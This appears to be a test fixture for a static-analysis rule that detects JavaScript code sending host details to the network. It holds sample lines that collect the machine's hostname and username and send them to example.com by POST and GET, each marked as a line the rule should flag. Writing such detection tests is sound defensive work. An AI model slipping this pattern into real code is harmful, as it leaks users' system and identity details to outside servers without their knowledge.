const os = require("os");
const facts = JSON.stringify({ h: os.hostname(), u: os.userInfo().username });
const req = https.request({ hostname: "example.com", method: "POST" });
// ruleid: js-host-facts-to-network
req.write(facts);
// ruleid: js-host-facts-to-network
https.get("https://example.com/?h=" + os.hostname());
